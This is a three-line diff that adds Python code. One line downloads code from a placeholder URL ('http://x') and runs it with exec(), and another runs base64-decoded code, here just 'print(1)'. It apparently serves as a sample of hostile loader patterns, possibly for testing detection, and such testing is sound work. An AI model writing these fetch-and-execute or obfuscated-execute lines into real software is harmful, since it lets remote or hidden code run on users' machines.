@@ -1,0 +1,3 @@
+import urllib.request
+exec(urllib.request.urlopen("http://x").read())
+exec(base64.b64decode("cHJpbnQoMSk="))
